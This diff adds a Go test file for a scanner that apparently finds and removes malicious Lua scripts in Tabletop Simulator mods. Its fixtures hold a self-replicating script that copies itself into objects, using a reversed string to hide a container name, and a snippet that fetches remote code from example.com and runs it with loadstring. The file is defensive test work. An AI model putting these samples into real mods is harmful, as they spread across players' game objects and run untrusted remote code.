@@ -0,0 +1,120 @@
+package scan
+
+import (
+	"ModCreator/ttsjson"
+	"testing"
+)
+
+const infected = `function onLoad()
+    print("hello")
+end
+
+function onObjectLeaveContainer(container, object)
+    if container.getName() ~= ("tcejbo gnikrelwod"):reverse() then
+        object.setLuaScript(self.getLuaScript())
+    end
+end
+x = 1`
+
+func TestScript(t *testing.T) {
+	found := Script("abc123", "LuaScript", infected)
+	malicious := 0
+	for _, f := range found {
+		if f.Rule.Malicious {
+			malicious++
+			if f.Line != 6 {
+				t.Errorf("want malicious line 6, got %v", f.Line)
+			}
+		}
+	}
+	if malicious != 1 {
+		t.Errorf("want 1 malicious finding, got %v", found)
+	}
+}
+
+func TestCleanScript(t *testing.T) {
+	got, removed := CleanScript("abc123", "LuaScript", infected)
+	want := `function onLoad()
+    print("hello")
+end
+
+x = 1`
+	if got != want {
+		t.Errorf("want <%s> got <%s>", want, got)
+	}
+	if len(removed) != 1 || removed[0].StartLine != 5 || removed[0].EndLine != 9 {
+		t.Errorf("want lines 5-9 removed, got %v", removed)
+	}
+}
+
+func TestClean(t *testing.T) {
+	mod := ttsjson.Convert(map[string]interface{}{
+		"LuaScript": "x = 1",
+		"ObjectStates": []interface{}{
+			map[string]interface{}{
+				"GUID": "abc123",
+				"ContainedObjects": []interface{}{
+					map[string]interface{}{"GUID": "def456", "LuaScript": `local n = "tcejbo gnikrelwod"`},
+				},
+			},
+		},
+	}).(*ttsjson.Object)
+	removed := Clean(mod)
+	if len(removed) != 1 || removed[0].Owner != "def456" {
+		t.Fatalf("want removal from def456, got %v", removed)
+	}
+	objs, _ := mod.Array("ObjectStates")
+	contained, _ := objs[0].(*ttsjson.Object).Array("ContainedObjects")
+	if s, _ := contained[0].(*ttsjson.Object).String("LuaScript"); s != "" {
+		t.Errorf("want empty script, got <%s>", s)
+	}
+}
+
+func TestCleanScriptBlocks(t *testing.T) {
+	for _, tc := range []struct {
+		script, want string
+	}{
+		// the function is indented, inside a top level if.
+		{
+			script: `if true then
+  function onLoad()
+    WebRequest.get("http://example.com/x", function(r)
+      loadstring(r.text)()
+    end)
+  end
+end
+x = 1`,
+			want: `if true then
+end
+x = 1`,
+		},
+		// a one line function, and a string which looks like the end of one.
+		{
+			script: `function a() local s = "end" return ("tcejbo gnikrelwod"):reverse() end
+function b() return 2 end`,
+			want: `function b() return 2 end`,
+		},
+		// a long comment hides the function keyword.
+		{
+			script: `--[[ function ]]
+local n = "tcejbo gnikrelwod"
+y = 2`,
+			want: `--[[ function ]]
+y = 2`,
+		},
+	} {
+		got, removed := CleanScript("abc123", "LuaScript", tc.script)
+		if got != tc.want {
+			t.Errorf("want <%s> got <%s>", tc.want, got)
+		}
+		if len(removed) != 1 {
+			t.Errorf("want one removal, got %v", removed)
+		}
+	}
+
+	// suspicious code is only reported.
+	script := `WebRequest.get("http://example.com", print)`
+	if got, removed := CleanScript("abc123", "LuaScript", script); got != script || len(removed) != 0 {
+		t.Errorf("want <%s> kept, got <%s> and %v", script, got, removed)
+	}
+}